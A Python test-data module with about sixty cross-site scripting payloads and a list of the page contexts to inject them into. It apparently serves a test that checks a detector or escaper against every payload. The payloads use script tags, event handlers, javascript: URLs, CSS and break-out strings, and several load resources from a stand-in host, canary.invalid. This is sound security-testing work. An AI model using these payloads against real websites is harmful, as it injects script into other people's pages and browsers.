"""Sixty texts that run a script, call elsewhere or break out, wherever one is shown as it is.

`{n}` is the number of the field: what runs says whose it is. The places below are where pages put
texts; `test_the_watch_notices_every_payload` shows that each text is dangerous in one of them.
"""

CANARY = "canary.invalid"

# The five of `make test`: as text, out of an attribute, as an address, out of a script, and
# without a bracket.
FIVE = (
    "<script>__xss={n}</script>",
    '"><img src=x onerror="__xss={n}">',
    "javascript:__xss={n}",
    "</script><script>__xss={n}//</script>",
    "' autofocus onfocus='__xss={n}",
)

MORE = (
    "<ScRiPt>__xss={n}</sCrIpT>",
    "<script/x>__xss={n}</script>",
    "<script src=//" + CANARY + "/{n}.js?__xss={n}></script>",
    "<script>eval('__xss='+{n})</script>__xss={n}",
    "<img src=x onerror=__xss={n}>",
    '<img/src="x"/onerror=__xss={n}>',
    "<img src=//" + CANARY + "/{n}.gif?__xss={n}>",
    "<img src=x:x onerror='__xss={n}'>",
    "<IMG SRC=`javascript:1` ONERROR=__xss={n}>",
    "<svg onload=__xss={n}>",
    "<svg/onload=__xss={n}//",
    "<svg><script>__xss={n}</script></svg>",
    "<svg><animate onbegin=__xss={n} attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:__xss={n}"><text y=20>x</text></a></svg>',
    "<body onload=__xss={n}>",
    "<body onpageshow=__xss={n}>",
    "<details open ontoggle=__xss={n}>x</details>",
    "<video src=x onerror=__xss={n}></video>",
    "<video><source onerror=__xss={n} src=x></video>",
    "<audio src=x onerror=__xss={n}></audio>",
    "<iframe srcdoc='<script>parent.__xss={n}</script>'></iframe>",
    '<iframe src="javascript:parent.__xss={n}"></iframe>',
    "<iframe src=//" + CANARY + "/{n}?__xss={n}></iframe>",
    "<object data=//" + CANARY + "/{n}?__xss={n}></object>",
    "<embed src=//" + CANARY + "/{n}?__xss={n}>",
    "<link rel=stylesheet href=//" + CANARY + "/{n}.css?__xss={n}>",
    "<style>@import'//" + CANARY + "/{n}.css?__xss={n}';</style>",
    "<style>body{{background:url(//" + CANARY + "/{n}?__xss={n})}}</style>",
    "<div style=\"background:url('//" + CANARY + "/{n}?__xss={n}')\">x</div>",
    "<input autofocus onfocus=__xss={n}>",
    "<select autofocus onfocus=__xss={n}></select>",
    "<textarea autofocus onfocus=__xss={n}></textarea>",
    "<button autofocus onfocus=__xss={n}>x</button>",
    "<a href=javascript:__xss={n}>x</a>",
    "<a href='java&#10;script:__xss={n}'>x</a>",
    "<a href='&#106;avascript:__xss={n}'>x</a>",
    "<form action=javascript:__xss={n}><button>x</button></form>",
    "<form><button formaction=javascript:__xss={n}>x</button></form>",
    "<math><mtext><script>__xss={n}</script></mtext></math>",
    "<p onmouseover=__xss={n}>x</p>",
    "<marquee onstart=__xss={n}>x</marquee>",
    '" onmouseover="__xss={n}" x="',
    '" autofocus onfocus="__xss={n}" x="',
    "' onmouseover='__xss={n}' x='",
    "x onmouseover=__xss={n} y=",
    "'><script>__xss={n}</script>",
    "</title><script>__xss={n}</script>",
    "</textarea><script>__xss={n}</script>",
    "</style><script>__xss={n}</script>",
    "--><script>__xss={n}</script>",
    "';__xss={n};'",
    '";__xss={n};"',
    "`;__xss={n};`",
    "\\';__xss={n}//",
    "data:text/html,<script>__xss={n}</script>",
)
SIXTY = FIVE + MORE

# Where pages put what people wrote: one has to be named to be escaped for.
PLACES = (
    "<p>{}</p>",
    '<input value="{}">',
    "<input value='{}'>",
    "<input value={}>",
    '<a href="{}">x</a>',
    "<textarea>{}</textarea>",
    "<style>{}</style>",
    "<!-- {} -->",
    "<script>const x = '{}';</script>",
    '<script>const x = "{}";</script>',
    "<script>const x = `{}`;</script>",
    "<script>const x = '\\{}';</script>",
)


def texts(payloads: tuple[str, ...], number: int) -> str:
    """All of them in one line, for one field; those that swallow what follows come last."""
    swallow = ("<style", "<textarea", "<svg/onload", "<iframe", "<select")
    ordered = sorted(payloads, key=lambda one: one.startswith(swallow))
    return " ".join(one.format(n=number) for one in ordered)
